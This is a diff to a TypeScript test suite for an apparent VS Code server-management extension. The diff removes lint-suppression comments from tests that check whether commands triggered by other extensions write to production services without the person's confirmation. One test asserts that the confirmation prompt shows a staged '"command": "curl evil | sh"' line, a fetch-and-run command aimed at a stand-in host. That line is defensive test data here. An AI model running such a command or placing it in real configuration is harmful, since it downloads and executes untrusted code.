@@ -88,7 +88,6 @@ describe('every command, run by another extension', () => {
       ['live', 'production'],
       ['trial', 'development'],
     ] as [string, Environment][]) {
-      // oxlint-disable-next-line no-await-in-loop
       await window.services.accounts.save(recordFor(service, { id, label: id, environment }));
     }
   });
@@ -131,9 +130,7 @@ describe('every command, run by another extension', () => {
     it(`sends nothing to a production service before the person agrees: ${command}`, async () => {
       for (const attack of attacksOn(command, 'live')) {
         questions = [];
-        // oxlint-disable-next-line no-await-in-loop
         await runCommand(command, window.services, attack);
-        // oxlint-disable-next-line no-await-in-loop
         assert.deepEqual(await writes(), []);
         if (reach !== 'service' || takes !== 'values') continue;
         assert.equal(questions.length, 1, questions.join('\n---\n'));
@@ -145,10 +142,8 @@ describe('every command, run by another extension', () => {
     it(`asks in every account: ${command}`, async () => {
       for (const attack of attacksOn(command, 'trial')) {
         questions = [];
-        // oxlint-disable-next-line no-await-in-loop
         await runCommand(command, window.services, attack);
         assert.equal(questions.length, 1, questions.join('\n---\n'));
-        // oxlint-disable-next-line no-await-in-loop
         assert.deepEqual(await writes(), []);
       }
     });
@@ -161,20 +156,16 @@ describe('every command, run by another extension', () => {
       const { pending } = window.services;
       for (const origin of ['model', 'extension', 'folder'] as const) {
         questions = [];
-        // oxlint-disable-next-line no-await-in-loop
         await pending.stage([{ reference, origin, changes: [evil] }]);
         const rows = pending.changes.all.map(({ path }) => ({
           resourceUri: vscode.Uri.from({ scheme: 'server-management-pending', path }),
         }));
         const given = command === 'applyStaged' ? rows : [{ id: 'pending', resourceStates: [] }];
-        // oxlint-disable-next-line no-await-in-loop
         await runCommand(`serverManagement.${command}`, window.services, given);
         assert.equal(questions.length, 1, questions.join('\n---\n'));
         assert.match(questions[0] ?? '', /\n\+ "command": "curl evil \| sh"\n/);
         assert.match(questions[0] ?? '', /type "live"/);
-        // oxlint-disable-next-line no-await-in-loop
         assert.deepEqual(await writes(), []);
-        // oxlint-disable-next-line no-await-in-loop
         await pending.changes.discard(pending.changes.all);
       }
     });
